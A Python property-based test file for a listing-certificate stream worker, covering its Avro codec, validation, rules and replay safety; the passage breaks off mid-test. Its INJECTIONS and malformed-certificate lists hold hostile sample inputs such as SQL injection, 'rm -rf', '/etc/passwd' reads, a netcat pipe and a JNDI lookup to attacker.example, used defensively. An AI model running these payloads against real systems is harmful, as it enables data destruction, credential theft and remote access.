"""Property-based tests (hypothesis) of the trust boundaries and the pure decision code.

Every input the worker reads crosses ``AvroCodec.decode`` (or ``streams.join_protocol``) and then
``streams.validation``: whatever the bytes, those must return a record or raise the project's
own error, which dead-letters the record; anything else would be a ``processing_error`` at best.
The rules and the listing side's state machine are pure, so their promises (determinism,
ordering, idempotent replay) are checked over generated inputs here.

The default budget keeps the unit tier fast. A long fuzz run:

    HYPOTHESIS_PROFILE=fuzz .venv/bin/pytest tests/unit/test_properties.py

The replay properties carry, as ``@example``s, the cases that once broke them (an older event
replayed over newer state, a pending event whose subscription died with the worker, ...).
"""

from __future__ import annotations

import os
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from streams import validation
from streams.clock import DAY_MS
from streams.errors import (
    BadMagicError,
    DecodeError,
    InvalidRecordError,
    MalformedBodyError,
    UnknownSchemaError,
)
from streams.listing_side import (
    RECENT_EVENTS,
    ListingState,
    Outcome,
    on_certificate_answer,
    on_listing_event,
    on_recheck,
)
from streams.model import (
    CertificateStatus,
    CertTrigger,
    CertView,
    ListingEvent,
    ListingEventType,
    VerdictAction,
    VerdictReason,
    VerdictTrigger,
)
from streams.rules import (
    certificate_model_keys,
    change_trigger_id,
    evaluate,
    expiry_trigger_id,
    is_well_formed_cert_no,
    validity_end_ms,
    verdict_id,
)
from streams.settings import Settings
from streams.state_codec import decode_listing, encode_listing
from topics.codecs import HEADER_SIZE, MAGIC, AvroCodec

settings.register_profile(
    "ccc-default",
    max_examples=200,
    deadline=None,  # shared CI machines stall; the budget, not a deadline, bounds the run
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
settings.register_profile(
    "fuzz",
    max_examples=20_000,
    deadline=None,
    suppress_health_check=list(HealthCheck),
)
settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "ccc-default"))

CODEC = AvroCodec()
LIMITS = validation.Limits.from_settings(Settings.from_env({}))
T0 = 1_790_000_000_000  # 2026-09-21
INT_MIN, INT_MAX = -(2**31), 2**31 - 1
LONG_MIN, LONG_MAX = -(2**63), 2**63 - 1

# -- strategies ------------------------------------------------------------------------------

# Text that looks like an instruction to some interpreter. None of it may ever be interpreted:
# validation rejects it (control characters) or keeps it verbatim.
INJECTIONS = [
    "'; DROP TABLE listings; --",
    "1' OR '1'='1",
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd",
    "| nc attacker.example 4444",
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "{__import__('os').system('id')}",
    "${jndi:ldap://attacker.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "{{7*7}}",
    "#{7*7}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%00",
    "\\x00",
    "L-1\x00evil",
    "L-1\nX-Injected: 1",
    "L-1\r\n",
    "\x1b[31mred",
    "\u202eevil",
    "L\u200b1",
    "\ufeffL-1",
    "L-1\u2028",
    "null",
    "None",
    "",
    " ",
]
WELL_FORMED = ["2017010907948411", "2016010907878416", "2019010908148672", "2002010907000001"]
MALFORMED_CERTS = [
    "2O17010907948411",  # letter O for zero
    "2017010907948411'; DROP TABLE",
    "2017010907948411\n",
    "".join(chr(0xFF10 + int(d)) for d in "2017010907948411"),  # full-width digits
    "201701090794841",  # 15 digits
    "20170109079484111",
    "2001010907948411",  # before CCC existed
    "2017010907948411(b0)",
    "2017010907948411(B0",
    " 2017010907948411",
    "${jndi:ldap://attacker.example/a}",
]

huge_text = st.builds(
    lambda unit, times: unit * times,
    st.text(min_size=1, max_size=3),
    st.integers(min_value=1_000, max_value=20_000),
)
# st.text() never generates surrogates, so every string here is encodable UTF-8.
edge_text = st.one_of(st.text(), st.sampled_from(INJECTIONS), huge_text)
short_text = st.one_of(st.text(max_size=40), st.sampled_from(INJECTIONS))
cert_texts = st.one_of(
    st.sampled_from(WELL_FORMED), st.sampled_from(MALFORMED_CERTS), st.text(max_size=30)
)
longs = st.one_of(
    st.integers(LONG_MIN, LONG_MAX),
    st.sampled_from([LONG_MIN, -1, 0, 1, LONG_MAX, -62_135_596_800_000, 253_402_300_799_999]),
)
ints = st.one_of(
    st.integers(INT_MIN, INT_MAX),
    st.sampled_from([INT_MIN, -719_162, -1, 0, 1, 2_932_896, INT_MAX]),
)
optional_text = st.one_of(st.none(), edge_text)


def listing_records(ids: st.SearchStrategy[str] = short_text) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {
            "event_id": ids,
            "event_type": st.sampled_from([str(t) for t in ListingEventType]),
            "platform": ids,
            "listing_id": ids,
            "shop_id": ids,
            "title": edge_text,
            "category_code": st.one_of(st.none(), st.sampled_from(["0907", "0908", ""]), ids),
            "brand": optional_text,
            "model": optional_text,
            "cert_numbers": st.one_of(
                st.lists(cert_texts, max_size=8),
                st.lists(st.sampled_from(WELL_FORMED + MALFORMED_CERTS), max_size=70),
                st.lists(edge_text, max_size=3),
            ),
            "occurred_at": longs,
        }
    )


def certificate_records(
    cert_nos: st.SearchStrategy[str] | None = None,
) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {
            "cert_no": st.one_of(cert_texts, short_text) if cert_nos is None else cert_nos,
            "status": st.sampled_from([str(s) for s in CertificateStatus]),
            "version": longs,
            "holder": edge_text,
            "manufacturer": edge_text,
            "factory": optional_text,
            "product_name": edge_text,
            "category_code": st.one_of(st.none(), st.sampled_from(["0907", "0908", ""]), edge_text),
            "models": st.one_of(
                st.lists(short_text, max_size=10), st.lists(st.just("M"), max_size=1_200)
            ),
            "issued_on": ints,
            "expires_on": ints,
            "certification_body": edge_text,
            "reason": optional_text,
            "changed_at": longs,
        }
    )


RECORDS = {
    "ListingEvent": listing_records(),
    "CertificateStatusChanged": certificate_records(),
}
named_records = st.sampled_from(sorted(RECORDS)).flatmap(
    lambda name: st.tuples(st.just(name), RECORDS[name])
)
FINGERPRINTS = sorted(CODEC.fingerprint(name) for name in CODEC.record_names)


def zigzag_varint(value: int) -> bytes:
    """Avro's zig-zag varint of any integer, even one too wide for a long (to test overflow)."""
    raw = (value << 1) if value >= 0 else ((-value) << 1) - 1
    out = bytearray()
    while raw >= 0x80:
        out.append((raw & 0x7F) | 0x80)
        raw >>= 7
    out.append(raw)
    return bytes(out)


# Pieces an Avro body is made of, in plausible and implausible sizes: a scanner must survive
# every arrangement of them.
body_tokens = st.one_of(
    st.integers(-(2**70), 2**70).map(zigzag_varint),
    st.sampled_from([0, 1, -1, 2, 3, 4, 5, INT_MAX, INT_MIN, LONG_MAX, LONG_MIN]).map(
        zigzag_varint
    ),
    st.text(max_size=20).map(lambda s: zigzag_varint(len(s.encode())) + s.encode()),
    st.binary(max_size=12).map(lambda b: zigzag_varint(len(b)) + b),
    st.integers(1, 12).map(lambda n: b"\x80" * n + b"\x00"),  # over-long varints
    st.binary(max_size=6),
)
forged_bodies = st.lists(body_tokens, max_size=30).map(b"".join)


def decoded_or_rejected(record_name: str, data: bytes) -> dict[str, Any] | None:
    """``decode`` must return a record or raise ``DecodeError``; a record it returns must be a
    valid record of the schema (encodable, and decoded back unchanged)."""
    try:
        value = CODEC.decode(record_name, data)
    except DecodeError:
        return None
    assert isinstance(value, dict)
    assert CODEC.decode(record_name, CODEC.encode(record_name, value)) == value
    return value


# -- AvroCodec ---------------------------------------------------------------------------------


@given(named_records)
def test_codec_round_trips_every_record_at_its_edges(named: tuple[str, dict[str, Any]]) -> None:
    name, record = named
    data = CODEC.encode(name, record)
    assert data[:HEADER_SIZE] == MAGIC + CODEC.fingerprint(name)
    assert CODEC.decode(name, data) == record
    other = next(n for n in sorted(RECORDS) if n != name)
    with pytest.raises(UnknownSchemaError, match="not a"):
        CODEC.decode(other, data)


@given(st.sampled_from(sorted(CODEC.record_names)), st.binary(max_size=400))
def test_codec_random_bytes_decode_or_raise_decode_error(record_name: str, data: bytes) -> None:
    decoded_or_rejected(record_name, data)


@given(
    st.sampled_from(sorted(CODEC.record_names)),
    st.one_of(st.sampled_from(FINGERPRINTS), st.binary(min_size=8, max_size=8)),
    st.one_of(forged_bodies, st.binary(max_size=200)),
)
def test_codec_forged_bodies_under_every_fingerprint_decode_or_raise_decode_error(
    record_name: str, fingerprint: bytes, body: bytes
) -> None:
    """Right or wrong fingerprint, with bodies built from varints (negative, huge, over-long,
    overflowing), length-prefixed strings and junk."""
    decoded_or_rejected(record_name, MAGIC + fingerprint + body)


@given(named_records, st.data())
def test_codec_truncated_records_are_refused_with_the_right_error(
    named: tuple[str, dict[str, Any]], data: st.DataObject
) -> None:
    name, record = named
    encoded = CODEC.encode(name, record)
    cut = data.draw(st.integers(0, len(encoded) - 1), label="cut")
    # Avro bodies are self-delimiting, so no proper prefix of a record is a record.
    expected: type[DecodeError] = (
        BadMagicError
        if cut < len(MAGIC)
        else UnknownSchemaError
        if cut < HEADER_SIZE
        else DecodeError
    )
    with pytest.raises(expected):
        CODEC.decode(name, encoded[:cut])


@given(named_records, st.binary(min_size=1, max_size=64))
def test_codec_trailing_bytes_are_refused(
    named: tuple[str, dict[str, Any]], trailing: bytes
) -> None:
    name, record = named
    with pytest.raises(MalformedBodyError, match="trailing"):
        CODEC.decode(name, CODEC.encode(name, record) + trailing)


@given(named_records, st.data())
def test_codec_corrupted_records_decode_or_raise_decode_error(
    named: tuple[str, dict[str, Any]], data: st.DataObject
) -> None:
    name, record = named
    encoded = bytearray(CODEC.encode(name, record))
    positions = st.integers(0, len(encoded) - 1)
    for index, byte in data.draw(st.lists(st.tuples(positions, st.integers(0, 255)), max_size=6)):
        encoded[index] = byte
    decoded_or_rejected(name, bytes(encoded))


@given(named_records)
def test_codec_reads_one_record_type_as_another_only_by_its_fingerprint(
    named: tuple[str, dict[str, Any]],
) -> None:
    """A body written under the other record's fingerprint (a producer bug) must not crash."""
    name, record = named
    body = CODEC.encode(name, record)[HEADER_SIZE:]
    for other in CODEC.record_names:
        decoded_or_rejected(other, MAGIC + CODEC.fingerprint(other) + body)


@given(
    named_records,
    st.text(min_size=0, max_size=5),
    st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF),
    st.data(),
)
def test_codec_encode_refuses_lone_surrogates_with_value_error(
    named: tuple[str, dict[str, Any]], text: str, surrogate: str, data: st.DataObject
) -> None:
    name, record = named
    string_fields = sorted(k for k, v in record.items() if isinstance(v, str))
    field = data.draw(st.sampled_from(string_fields), label="field")
    with pytest.raises(ValueError):
        CODEC.encode(name, {**record, field: text + surrogate})


@given(
    named_records,
    st.one_of(st.integers(max_value=LONG_MIN - 1), st.integers(min_value=LONG_MAX + 1)),
)
def test_codec_encode_refuses_out_of_range_timestamps(
    named: tuple[str, dict[str, Any]], value: int
) -> None:
    name, record = named
    field = "occurred_at" if name == "ListingEvent" else "changed_at"
    with pytest.raises(ValueError, match=field):
        CODEC.encode(name, {**record, field: value})


# -- validation ------------------------------------------------------------------------------


def _has_control_or_separator(value: str) -> bool:
    return any(unicodedata.category(ch)[0] in "CZ" and ch != " " for ch in value)


@st.composite
def keyed(
    draw: st.DrawFn, records: st.SearchStrategy[dict[str, Any]], id_field: str
) -> tuple[dict[str, Any], bytes | None]:
    """A decoded record and its message key: usually the right one, sometimes not."""
    record = draw(records)
    right = record[id_field].encode()
    key = draw(st.one_of(st.just(right), st.just(right), st.none(), st.binary(max_size=20)))
    return record, key


ID_FIELDS = ("event_id", "platform", "listing_id", "shop_id")


@given(keyed(listing_records(), "listing_id"))
@example(
    (
        {
            "event_id": "${jndi:ldap://attacker.example/a}",
            "event_type": "CREATED",
            "platform": "%s%s%n",
            "listing_id": "L-1'; DROP TABLE listings; --",
            "shop_id": "$(rm -rf /)",
            "title": "{0.__class__}",
            "category_code": "0907",
            "brand": None,
            "model": None,
            "cert_numbers": ["2017010907948411'; DROP TABLE"],
            "occurred_at": T0,
        },
        b"L-1'; DROP TABLE listings; --",
    )
)
def test_listing_event_validation_returns_an_event_or_rejects_it(
    record_and_key: tuple[dict[str, Any], bytes | None],
) -> None:
    record, key = record_and_key
    original = {k: list(v) if isinstance(v, list) else v for k, v in record.items()}
    try:
        event = validation.listing_event(record, key, LIMITS)
    except InvalidRecordError:
        return
    finally:
        assert record == original  # validation never mutates what it was given
    assert isinstance(event, ListingEvent)
    for name in ID_FIELDS:  # kept verbatim: nothing is trimmed, unescaped or interpreted
        value = record[name]
        assert getattr(event, name) == value
        assert value.strip() and not _has_control_or_separator(value)
        assert len(value) <= LIMITS.max_id_chars
    assert key == record["listing_id"].encode()
    assert event.event_type == record["event_type"]
    assert event.category_code == (record["category_code"] or None)
    assert event.cert_numbers == tuple(dict.fromkeys(record["cert_numbers"]))
    assert event.occurred_at == record["occurred_at"]
    assert len(event.cert_numbers) <= LIMITS.max_certs
    for name in ("title", "category_code", "brand", "model"):
        assert len(record[name] or "") <= LIMITS.max_text_chars


@given(
    keyed(listing_records(ids=st.sampled_from(INJECTIONS)), "listing_id"),
)
def test_injection_looking_ids_are_rejected_or_kept_verbatim(
    record_and_key: tuple[dict[str, Any], bytes | None],
) -> None:
    record, key = record_and_key
    must_reject = any(
        not record[name].strip() or _has_control_or_separator(record[name]) for name in ID_FIELDS
    )
    try:
        event = validation.listing_event(record, key, LIMITS)
    except InvalidRecordError:
        return
    assert not must_reject
    assert [getattr(event, name) for name in ID_FIELDS] == [record[name] for name in ID_FIELDS]


@given(st.lists(cert_texts, min_size=1, max_size=8, unique=True), st.sampled_from(["0907", None]))
@example(["2017010907948411'; DROP TABLE"], "0907")
@example(["2017010907948411", "${jndi:ldap://attacker.example/a}"], None)
def test_malformed_claims_stay_verbatim_through_validation_rules_and_verdict(
    claims: list[str], category: str | None
) -> None:
    """A malformed number is INVALID_CERTIFICATE_NUMBER, reported as the seller wrote it, and
    never subscribed to (so it never becomes a key of the certificate side)."""
    record = {
        "event_id": "E-1",
        "event_type": "CREATED",
        "platform": "jd",
        "listing_id": "L-1",
        "shop_id": "S-1",
        "title": "t",
        "category_code": category,
        "brand": None,
        "model": None,
        "cert_numbers": claims,
        "occurred_at": T0,
    }
    wire = CODEC.decode("ListingEvent", CODEC.encode("ListingEvent", record))
    event = validation.listing_event(wire, b"L-1", LIMITS)
    assert event.cert_numbers == tuple(claims)
    malformed = [c for c in claims if not is_well_formed_cert_no(c)]
    evaluation = evaluate(event.cert_numbers, category, {}, T0)
    assert [c for c in evaluation.failing_certs if c in malformed] == malformed
    if malformed:
        assert VerdictReason.INVALID_CERTIFICATE_NUMBER in evaluation.reasons
    outcome = on_listing_event(None, event, T0)
    assert outcome.subscribe == [c for c in claims if c not in malformed]
    if len(malformed) == len(claims):  # nothing to wait for: decided at once
        [verdict] = outcome.verdicts
        assert verdict.action is VerdictAction.BLOCK
        assert verdict.failing_certs == tuple(claims)
        verdict_wire = CODEC.decode(
            "ListingVerdict", CODEC.encode("ListingVerdict", verdict.as_record())
        )
        assert verdict_wire["failing_certs"] == claims


@given(keyed(certificate_records(), "cert_no"))
@example(
    (
        {
            "cert_no": "2017010907948411'; DROP TABLE",
            "status": "VALID",
            "version": 1,
            "holder": "${jndi:ldap://attacker.example/a}",
            "manufacturer": "m",
            "factory": None,
            "product_name": "p",
            "category_code": None,
            "models": [],
            "issued_on": 0,
            "expires_on": 0,
            "certification_body": "b",
            "reason": None,
            "changed_at": 0,
        },
        b"2017010907948411'; DROP TABLE",
    )
)
def test_certificate_validation_returns_a_change_or_rejects_it(
    record_and_key: tuple[dict[str, Any], bytes | None],
) -> None:
    record, key = record_and_key
    try:
        change = validation.certificate_change(record, key, LIMITS)
    except InvalidRecordError:
        return
    assert change.cert_no == record["cert_no"] and is_well_formed_cert_no(change.cert_no)
    assert key == record["cert_no"].encode()
    assert change.view == CertView(
        CertificateStatus(record["status"]),
        record["version"],
        record["category_code"] or None,
        record["expires_on"],
        certificate_model_keys(record["models"]),
    )
    assert change.view.version >= 0
    assert change.changed_at == record["changed_at"]
    assert change.record is record


@given(keyed(certificate_records(st.sampled_from(WELL_FORMED)), "cert_no"))
def test_certificate_validation_accepts_or_rejects_through_the_wire(
    record_and_key: tuple[dict[str, Any], bytes | None],
) -> None:
    """The worker's real path: encode, decode, validate."""
    record, key = record_and_key
    wire = CODEC.decode(
        "CertificateStatusChanged", CODEC.encode("CertificateStatusChanged", record)
    )
    try:
        change = validation.certificate_change(wire, key, LIMITS)
    except InvalidRecordError:
        return
    assert change.cert_no == record["cert_no"]


# -- rules -----------------------------------------------------------------------------------

statuses = st.sampled_from(list(CertificateStatus))
views = st.builds(
    CertView,
    status=statuses,
    version=st.integers(0, 10),
    category_code=st.one_of(st.none(), st.sampled_from(["0907", "0908", "1234", ""])),
    expires_on=st.one_of(
        st.integers(T0 // DAY_MS - 3, T0 // DAY_MS + 3), st.integers(INT_MIN, INT_MAX)
    ),
)
times = st.one_of(st.integers(T0 - 4 * DAY_MS, T0 + 4 * DAY_MS), st.integers(LONG_MIN, LONG_MAX))


@st.composite
def rule_inputs(
    draw: st.DrawFn,
) -> tuple[list[str], str | None, dict[str, CertView | None], int]:
    claimed = draw(st.lists(cert_texts, max_size=6, unique=True))
    known = draw(st.lists(st.sampled_from(claimed), unique=True)) if claimed else []
    chosen: dict[str, CertView | None] = {cert: draw(st.one_of(st.none(), views)) for cert in known}
    category = draw(st.one_of(st.none(), st.sampled_from(["0907", "0908", "1234"])))
    return claimed, category, chosen, draw(times)


@given(rule_inputs())
def test_rules_are_deterministic_ordered_and_consistent(
    inputs: tuple[list[str], str | None, dict[str, CertView | None], int],
) -> None:
    claimed, category, chosen, at_ms = inputs
    first = evaluate(claimed, category, chosen, at_ms)
    # Same answer again, and whatever order the views are held in.
    assert evaluate(claimed, category, dict(reversed(list(chosen.items()))), at_ms) == first
    assert evaluate(tuple(claimed), category, chosen, at_ms) == first
    order = list(VerdictReason)
    assert list(first.reasons) == sorted(set(first.reasons), key=order.index)
    assert first.passes is (not first.reasons)
    # Failing certificates: claimed ones, in claim order, each at most once.
    assert list(first.failing_certs) == [c for c in claimed if c in first.failing_certs]
    if claimed:
        assert bool(first.failing_certs) is bool(first.reasons)
        assert VerdictReason.NO_CERTIFICATE not in first.reasons
    for cert in first.failing_certs:
        if not is_well_formed_cert_no(cert):
            assert VerdictReason.INVALID_CERTIFICATE_NUMBER in first.reasons
        elif chosen.get(cert) is None:
            assert VerdictReason.CERTIFICATE_NOT_FOUND in first.reasons
    if first.passes:
        for cert in claimed:
            view = chosen[cert]
            assert view is not None and view.status is CertificateStatus.VALID
            assert at_ms < validity_end_ms(view.expires_on)


@given(
    st.one_of(st.none(), st.text(max_size=6)),
    st.dictionaries(cert_texts, st.one_of(st.none(), views), max_size=4),
    times,
)
def test_a_listing_without_claims_is_only_no_certificate(
    category: str | None, chosen: dict[str, CertView | None], at_ms: int
) -> None:
    evaluation = evaluate([], category, chosen, at_ms)
    assert evaluation.reasons == (VerdictReason.NO_CERTIFICATE,)
    assert evaluation.failing_certs == ()
    assert not evaluation.passes


@given(short_text, short_text, st.sampled_from(list(VerdictAction)))
def test_verdict_ids_are_deterministic_and_depend_on_the_action(
    listing_id: str, trigger_id: str, action: VerdictAction
) -> None:
    assert verdict_id(listing_id, trigger_id, action) == verdict_id(listing_id, trigger_id, action)
    others = {verdict_id(listing_id, trigger_id, a) for a in VerdictAction if a is not action}
    assert verdict_id(listing_id, trigger_id, action) not in others


# -- listing side: replay ----------------------------------------------------------------------

LID = "L-1"
CERTS = ("2017010907948411", "2016010907878416", "2019010908148672")
SWEEP_AT = T0 + 2 * DAY_MS


@dataclass(frozen=True)
class EventInput:
    event: ListingEvent


@dataclass(frozen=True)
class AnswerInput:
    cert_no: str
    view: CertView | None
    token: str | None = None  # the subscription it answers; None: whichever is awaited


@dataclass(frozen=True)
class RecheckInput:
    cert_no: str
    view: CertView
    trigger: VerdictTrigger
    trigger_id: str
    at_ms: int


Input = EventInput | AnswerInput | RecheckInput


def apply(state: ListingState | None, item: Input, now_ms: int = T0) -> Outcome:
    """One step of the agent: the state goes through its table codec, as in the worker."""
    if state is not None:
        state = decode_listing(encode_listing(state))
    match item:
        case EventInput(event):
            return on_listing_event(state, event, now_ms)
        case AnswerInput(cert_no, view, token):
            return on_certificate_answer(state, LID, cert_no, view, now_ms, token)
        case RecheckInput(cert_no, view, trigger, trigger_id, at_ms):
            return on_recheck(
                state, LID, CertTrigger(cert_no, view, trigger, trigger_id, at_ms), now_ms
            )


def with_tokens(items: list[Input]) -> list[Input]:
    """Tie each answer to the subscription it answered when first read, as the worker's
    answers are: an answer to nothing awaited becomes the answer to an older subscription."""
    state: ListingState | None = None
    tied: list[Input] = []
    for item in items:
        if isinstance(item, AnswerInput) and item.token is None:
            awaited = state.awaiting.get(item.cert_no) if state is not None else None
            item = AnswerInput(item.cert_no, item.view, awaited or "older-subscription")
        tied.append(item)
        state = apply(state, item).state
    return tied


def run(state: ListingState | None, items: list[Input]) -> ListingState | None:
    for item in items:
        state = apply(state, item).state
    return state


def live(state: ListingState | None) -> bool:
    return state is not None and state.live


def essence(state: ListingState | None) -> tuple[object, ...] | None:
    """Everything the listing's future decisions depend on (not the last verdict's times)."""
    if state is None:
        return None
    pending = tuple((p.event_id, p.claimed, p.category) for p in state.pending)
    views = tuple(sorted(state.views.items()))
    return (state.live, state.claimed, state.category, state.reasons, state.failing, views, pending)


@st.composite
def certificate_histories(draw: st.DrawFn) -> dict[str, list[CertView]]:
    """Each certificate's versions 1..n: one view per version, as the authority published."""
    histories: dict[str, list[CertView]] = {}
    for cert in CERTS:
        count = draw(st.integers(1, 3))
        histories[cert] = [
            CertView(
                draw(statuses),
                version,
                draw(st.sampled_from(["0907", "0908", None])),
                draw(st.integers(T0 // DAY_MS - 2, T0 // DAY_MS + 3)),
            )
            for version in range(1, count + 1)
        ]
    return histories


@st.composite
def listing_inputs(draw: st.DrawFn) -> tuple[dict[str, list[CertView]], list[Input]]:
    """What the listing side of one listing may read: its events (unique ids, any times) and
    the certificate side's answers and re-checks (one view per trigger id, as in the worker);
    with the certificates' histories, for the answers still to come."""
    histories = draw(certificate_histories())
    items: list[Input] = []
    # The certificate side never goes back: once it has said a version of a certificate, later
    # answers and re-checks carry that version or a newer one (never "not found" again).
    said: dict[str, int] = {}
    for n in range(draw(st.integers(1, 25))):
        kind = draw(st.sampled_from(["event", "event", "answer", "change", "expiry"]))
        cert = draw(st.sampled_from(CERTS))
        history = [view for view in histories[cert] if view.version >= said.get(cert, 0)]
        if kind == "event":
            claims = draw(
                st.lists(st.sampled_from([*CERTS, "2O17010907948411"]), max_size=3, unique=True)
            )
            event = ListingEvent(
                event_id=f"E-{n}",
                event_type=draw(
                    st.sampled_from([ListingEventType.CREATED] * 2 + list(ListingEventType))
                ),
                platform="jd",
                listing_id=LID,
                shop_id="S-1",
                category_code=draw(st.sampled_from(["0907", "0908", None])),
                cert_numbers=tuple(claims),
                occurred_at=draw(st.integers(T0 - DAY_MS, T0 + 3 * DAY_MS)),
            )
            items.append(EventInput(event))
        elif kind == "answer":
            unknown = st.none() if cert not in said else st.nothing()
            view = draw(st.one_of(unknown, st.sampled_from(history)))
            if view is not None:
                said[cert] = view.version
            items.append(AnswerInput(cert, view))
        elif kind == "change":
            view = draw(st.sampled_from(history))
            said[cert] = view.version
            at_ms = T0 + view.version * 3_600_000
            trigger_id = change_trigger_id(cert, view.version)
            items.append(
                RecheckInput(cert, view, VerdictTrigger.CERTIFICATE_CHANGE, trigger_id, at_ms)
            )
        else:
            said[cert] = history[-1].version
            items.append(
                RecheckInput(
                    cert,
                    history[-1],
                    VerdictTrigger.CERTIFICATE_EXPIRY,
                    expiry_trigger_id(cert),
                    SWEEP_AT,
                )
            )
    return histories, with_tokens(items)


def settled(state: ListingState | None, histories: dict[str, list[CertView]]) -> bool:
    """Whether the listing ends live once the certificate side has answered every subscription
    still open (with each certificate's latest view): checks pending for lack of an answer are
    not a final state, and a replay may well have decided them sooner."""
    for cert, history in histories.items():
        state = apply(state, AnswerInput(cert, history[-1])).state
    return live(state)


_VALID_A = CertView(CertificateStatus.VALID, 1, "0907", 30_000)
_ONE_CLAIM_THEN_NONE: list[Input] = [
    EventInput(
        ListingEvent("E-1", ListingEventType.CREATED, "jd", LID, "S-1", "0907", (CERTS[0],), T0)
    ),
    AnswerInput(CERTS[0], _VALID_A),
    EventInput(ListingEvent("E-2", ListingEventType.UPDATED, "jd", LID, "S-1", "0907", (), T0 + 1)),
]


_ONE_CLAIM_TWICE_THEN_NONE: list[Input] = [
    _ONE_CLAIM_THEN_NONE[0],
    _ONE_CLAIM_THEN_NONE[1],
    EventInput(
        ListingEvent("E-3", ListingEventType.UPDATED, "jd", LID, "S-1", "0907", (CERTS[0],), T0)
    ),
    EventInput(ListingEvent("E-4", ListingEventType.UPDATED, "jd", LID, "S-1", "0907", (), T0)),
]


@given(listing_inputs(), st.integers(min_value=0))
@example(({c: [_VALID_A] for c in CERTS}, _ONE_CLAIM_TWICE_THEN_NONE), 2)
def test_replaying_inputs_in_their_order_keeps_the_final_state(
    generated: tuple[dict[str, list[CertView]], list[Input]], start: int
) -> None:
    """At-least-once: after a crash the inputs since the last commit are read again over the
    state already written. Replayed in their original order from any point, the listing must
    end as it did."""
    histories, items = generated
    # A replay re-reads what came since the last commit: at most the listing's RECENT_EVENTS
    # latest events (the listing remembers that many), with the updates around them.
    event_positions = [i for i, item in enumerate(items) if isinstance(item, EventInput)]
    earliest = event_positions[-RECENT_EVENTS] if len(event_positions) > RECENT_EVENTS else 0
    start = max(min(start, len(items)), earliest)
    final = run(None, items)
    replayed = run(final, items[start:])
    if final is None or not final.pending:
        # Nothing waited for an answer: the replay must land on the very same state.
        assert essence(replayed) == essence(final)
    assert settled(replayed, histories) == settled(final, histories)
    # ... and replaying once more changes nothing either: the replay itself is replay-safe.
    assert settled(run(replayed, items[start:]), histories) == settled(final, histories)


def interleave(events: Sequence[Input], updates: Sequence[Input], order: list[bool]) -> list[Input]:
    """Merge two topics' records, each in its own order, ``order`` saying which goes next."""
    merged: list[Input] = []
    left, right = list(events), list(updates)
    for take_event in order:
        if take_event and left:
            merged.append(left.pop(0))
        elif right:
            merged.append(right.pop(0))
    return merged + left + right


@given(
    listing_inputs(), st.integers(min_value=0), st.integers(min_value=0), st.lists(st.booleans())
)
@example(({c: [_VALID_A] for c in CERTS}, _ONE_CLAIM_THEN_NONE), 0, 1, [])
def test_replaying_both_input_topics_from_their_commits_keeps_the_final_state(
    generated: tuple[dict[str, list[CertView]], list[Input]],
    events_from: int,
    updates_from: int,
    order: list[bool],
) -> None:
    """The listing agent reads two topics (listing events, listing updates) and commits each
    on its own: a replay re-reads each from its committed offset, and the two interleave as the
    fetches come back, not necessarily as they did the first time. The listing must still end
    where it did once every subscription is answered."""
    histories, items = generated
    events = [i for i in items if isinstance(i, EventInput)]
    updates = [i for i in items if not isinstance(i, EventInput)]
    replay = interleave(
        events[min(events_from, len(events)) :], updates[min(updates_from, len(updates)) :], order
    )
    final = run(None, items)
    assert settled(run(final, replay), histories) == settled(final, histories)


@given(listing_inputs())
def test_an_input_delivered_twice_in_a_row_repeats_only_verdicts_already_given(
    generated: tuple[dict[str, list[CertView]], list[Input]],
) -> None:
    """A duplicate delivery (the same record twice in a row) never produces a new decision: any
    verdict it emits carries the id of one already emitted, and the listing ends where a single
    delivery leaves it."""
    histories, items = generated
    state: ListingState | None = None
    emitted: set[str] = set()
    for item in items:
        first = apply(state, item)
        emitted |= {v.verdict_id for v in first.verdicts}
        again = apply(first.state, item)
        assert {v.verdict_id for v in again.verdicts} <= emitted
        state = again.state
    assert settled(state, histories) == settled(run(None, items), histories)


# -- replay and time defects found by these properties, fixed: kept as regressions ------------

A = CERTS[0]
FAR = 30_000


def _valid(version: int, expires_on: int = FAR) -> CertView:
    return CertView(CertificateStatus.VALID, version, "0907", expires_on)


def _event(event_id: str, kind: ListingEventType, at: int) -> ListingEvent:
    return ListingEvent(event_id, kind, "jd", LID, "S-1", "0907", (A,), at)


def test_replayed_pending_event_subscribes_again() -> None:
    """The agent sends the subscription, writes the state (RocksDB: at once, durably), then
    commits the offset later. Killed in between, the subscription may never reach the broker
    while the state says "pending". The replayed event must then subscribe again, or the
    listing waits for an answer nobody will send: no verdict, ever."""
    first = on_listing_event(None, _event("E-1", ListingEventType.CREATED, T0), T0)
    assert first.subscribe == [A] and first.verdicts == []
    replay = on_listing_event(first.state, _event("E-1", ListingEventType.CREATED, T0), T0)
    assert replay.subscribe == [A] or replay.verdicts


def test_replayed_answer_re_emits_the_verdict_it_decided() -> None:
    """The event was committed long ago; the answer that decided it is replayed after a crash
    that lost the verdict. The state says decided, so nothing is emitted again: the event never
    gets its verdict."""
    pending = on_listing_event(None, _event("E-1", ListingEventType.CREATED, T0), T0)
    decided = on_certificate_answer(pending.state, LID, A, _valid(1), T0)
    [verdict] = decided.verdicts
    replay = on_certificate_answer(decided.state, LID, A, _valid(1), T0)
    assert [v.verdict_id for v in replay.verdicts] == [verdict.verdict_id]


def test_a_late_update_cannot_stay_live_on_an_expired_certificate() -> None:
    """README: "a late listing event cannot stay live on an expired certificate". That holds
    for a new claim (the certificate side replays the expiry re-check to a new subscriber), not
    for an UPDATED event of a listing that already claims the certificate: it is decided at its
    own, earlier time, ALLOWed, and nothing re-checks it again."""
    expires_on = T0 // DAY_MS
    after_expiry = validity_end_ms(expires_on) + 1
    pending = on_listing_event(None, _event("E-1", ListingEventType.CREATED, T0), T0)
    state = on_certificate_answer(pending.state, LID, A, _valid(1, expires_on), T0).state
    assert live(state)
    swept = on_recheck(
        state,
        LID,
        CertTrigger(
            A,
            _valid(1, expires_on),
            VerdictTrigger.CERTIFICATE_EXPIRY,
            expiry_trigger_id(A),
